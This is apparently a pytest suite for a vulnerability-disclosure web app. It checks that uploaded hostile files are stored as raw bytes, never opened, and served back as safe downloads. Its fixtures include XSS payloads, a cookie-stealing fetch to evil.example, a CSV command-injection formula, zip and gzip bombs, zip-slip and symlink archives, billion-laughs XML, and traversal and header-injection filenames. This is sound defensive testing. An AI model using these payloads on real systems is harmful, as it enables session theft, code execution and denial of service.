"""Hostile files: kept as the bytes that came, opened by nobody here, and given back as downloads under safe names."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import stat
import struct
import subprocess
import tracemalloc
import zipfile
import zlib
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from tests.apps.cases.conftest import at_desk, tom_user, web  # noqa: F401 - fixtures
from tests.apps.intake.browsing import reported
from vulndesk.apps.cases.models import Attachment, Case
from vulndesk.apps.policies.models import Programme

pytestmark = pytest.mark.django_db

# A picture to a browser that sniffs for pictures, a script to one that sniffs for scripts.
POLYGLOT = b"GIF89a/*\x00\x00*/=1;alert(document.domain)//" + bytes(20)
ACTIVE = {
    "script.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    "page.html": b"<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>",
    "page.xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "picture.gif.js": POLYGLOT,
    "picture.gif": POLYGLOT,
    "report.pdf.exe": b"MZ" + bytes(60),
    "form.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "feed.xml": b'<?xml-stylesheet href="javascript:alert(1)"?><x/>',
    "sheet.csv": b"=cmd|' /C calc'!A0",
    "mail.eml": b"Content-Type: text/html\r\n\r\n<script>alert(1)</script>",
}


def sent(browser: Client, files: dict[str, bytes], kind: str = "text/html") -> dict[str, Attachment]:
    """A report with these files, by the form; each with its row, by the name that came."""
    uploads = [SimpleUploadedFile(name, content, content_type=kind) for name, content in files.items()]
    reported(browser, files=uploads)
    rows = list(Attachment.objects.order_by("at", "pk"))
    assert len(rows) == len(files)
    sizes = {hashlib.sha256(content).hexdigest(): name for name, content in files.items()}
    page = browser.get("/status/report/")
    assert page.status_code == 200
    found = {}
    for row in rows:
        got = b"".join(browser.get(f"/status/report/files/{row.pk}/"))
        found[sizes[hashlib.sha256(got).hexdigest()]] = row
    return found


def addresses(row: Attachment) -> tuple[str, str]:
    """For the reporter and for the team."""
    reference = Case.objects.get(pk=row.case_id).reference
    return f"/status/report/files/{row.pk}/", f"/team/cases/{reference}/files/{row.pk}/"


@pytest.mark.abuse(16)
@pytest.mark.slow
def test_16_an_active_file_is_a_download_of_plain_bytes_for_both_sides(web: Programme, at_desk: Client) -> None:  # noqa: F811
    rita = Client()
    for name, row in sent(rita, ACTIVE).items():
        theirs, ours = addresses(row)
        for browser, address in ((rita, theirs), (at_desk, ours)):
            answer = browser.get(address, headers={"Accept": "text/html", "Range": "bytes=0-3"})
            assert answer.status_code == 200, name
            assert answer.headers["Content-Type"] == "application/octet-stream"
            assert answer.headers["Content-Disposition"].startswith("attachment;")
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
            assert answer.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
            assert answer.headers["Cross-Origin-Resource-Policy"] == "same-origin"
            assert answer.headers["Cache-Control"] == "no-store"
            assert b"".join(answer) == ACTIVE[name]


@pytest.mark.abuse(16)
@pytest.mark.slow
def test_16_the_page_that_looks_into_a_file_shows_its_words_and_runs_nothing(web: Programme, at_desk: Client) -> None:  # noqa: F811
    rita = Client()
    for name, row in sent(rita, ACTIVE).items():
        theirs, ours = addresses(row)
        for browser, address in ((rita, f"{theirs}look/"), (at_desk, f"{ours}look/")):
            page = browser.get(address)
            assert page.status_code == 200, name
            text = page.content.decode()
            assert "<script>alert" not in text
            assert "onload=" not in text.replace("onload=&quot;", "")
            assert "default-src 'none'" in page.headers["Content-Security-Policy"]
            assert f'src="{address.removesuffix("look/")}' not in text, "nothing of the page loads the file"


# --- archives ----------------------------------------------------------------------------------------------------


def archive(files: dict[str, bytes], *, links: dict[str, str] | None = None) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in files.items():
            target.writestr(name, content)
        for name, to in (links or {}).items():
            entry = zipfile.ZipInfo(name)
            entry.create_system = 3
            entry.external_attr = (stat.S_IFLNK | 0o777) << 16
            target.writestr(entry, to)
    return made.getvalue()


def nested(levels: int) -> bytes:
    inner = archive({f"{number}.bin": bytes(10**6) for number in range(10)})
    for _ in range(levels):
        inner = archive({f"{number}.zip": inner for number in range(10)})
    return inner


def pixel_flood() -> bytes:
    """A picture of 50,000 by 50,000 points in some kilobytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", 50_000, 50_000, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(10**6))) + chunk(b"IEND", b"")
    )


TRAPS = {
    "flat.zip": archive({"zeros.bin": bytes(50 * 10**6)}),
    "nested.zip": nested(3),
    "slip.zip": archive({"../../../../tmp/slipped-17": b"x", "/etc/slipped-17": b"x", "..\\slipped-17": b"x"}),
    "link.zip": archive({"a.txt": b"x"}, links={"passwd": "/etc/passwd", "up": ".."}),
    "bomb.gz": gzip.compress(bytes(50 * 10**6)),
    "flood.png": pixel_flood(),
    "laughs.xml": b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>',
}


@pytest.mark.abuse(17)
@pytest.mark.slow
def test_17_bombs_and_traps_are_kept_as_bytes_and_opened_by_nobody(
    web: Programme,  # noqa: F811
    at_desk: Client,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def never(*given: object, **named: object) -> Any:
        raise AssertionError("the desk opened an archive, or started a program over it")

    for where, name in ((zipfile, "ZipFile"), (gzip, "open"), (gzip, "decompress"), (subprocess, "Popen")):
        monkeypatch.setattr(where, name, never)
    rita = Client()
    largest = max(map(len, TRAPS.values()))
    tracemalloc.start()
    try:
        rows = sent(rita, TRAPS, "application/zip")
        for row in rows.values():
            theirs, ours = addresses(row)
            assert rita.get(f"{theirs}look/").status_code == at_desk.get(f"{ours}look/").status_code == 200
        assert tracemalloc.get_traced_memory()[1] < 20 * 10**6 + 4 * largest
    finally:
        tracemalloc.stop()
    assert set(rows) == set(TRAPS)
    assert {row.size for row in rows.values()} == {len(content) for content in TRAPS.values()}


# --- names -------------------------------------------------------------------------------------------------------

NAMES = [
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "a\r\nSet-Cookie: x=1.txt",
    "a\r\n\r\n<script>alert(1)</script>.html",
    'quote".txt',
    "semi;filename=evil.html",
    "\u202egnp.exe",
    "\u2066a\u2069.txt",
    "nul\x00.txt",
    "CON",
    "aux.txt",
    ".htaccess",
    "..",
    " ",
    "\u00e9\u4e2d\U0001f600.log",
    "%2e%2e%2f%2e%2e%2fetc",
    "x" * 400 + ".txt",
]


@pytest.mark.abuse(18)
@pytest.mark.slow
def test_18_hostile_names_are_stored_nowhere_as_paths_and_given_back_in_one_safe_line(
    web: Programme,  # noqa: F811
    at_desk: Client,  # noqa: F811
    settings: Any,
) -> None:
    rita = Client()
    bodies = {str(number): b"content %d" % number for number in range(len(NAMES))}
    uploads = [SimpleUploadedFile("x", content) for content in bodies.values()]
    for upload, name in zip(uploads, NAMES, strict=True):
        upload.__dict__["_name"] = name  # Django's own class would mend it before it is sent
    reported(rita, files=uploads)
    rows = Attachment.objects.all()
    assert rows.count() == len(NAMES)
    for row in rows:
        assert row.file_id
        assert set(row.file_id) <= set("0123456789abcdef")
        for browser, address in zip((rita, at_desk), addresses(row), strict=True):
            answer = browser.get(address)
            header = answer.headers["Content-Disposition"]
            assert header.startswith("attachment")
            assert header.isascii()
            assert header.isprintable(), header
            assert "Set-Cookie" not in answer.headers or b"x=1" not in answer.headers["Set-Cookie"].encode()
            named = header.partition("filename")[2]
            assert not any(sign in named for sign in ("/", "\\..", "%2F", "%5C", "%0D", "%0A", "%00")), header
            assert not any(bidi in named.upper() for bidi in ("%E2%80%AE", "%E2%81%A6", "%E2%81%A9")), header
            assert len(header) < 1200
            assert b"".join(answer) in bodies.values()
    lying = [path for path in settings.DATA.rglob("*") if path.name.startswith(("passwd", "win.ini", "shadow"))]
    assert lying == []
    page = json.dumps(rita.get("/status/report/").content.decode())
    assert "\\u202e" not in page
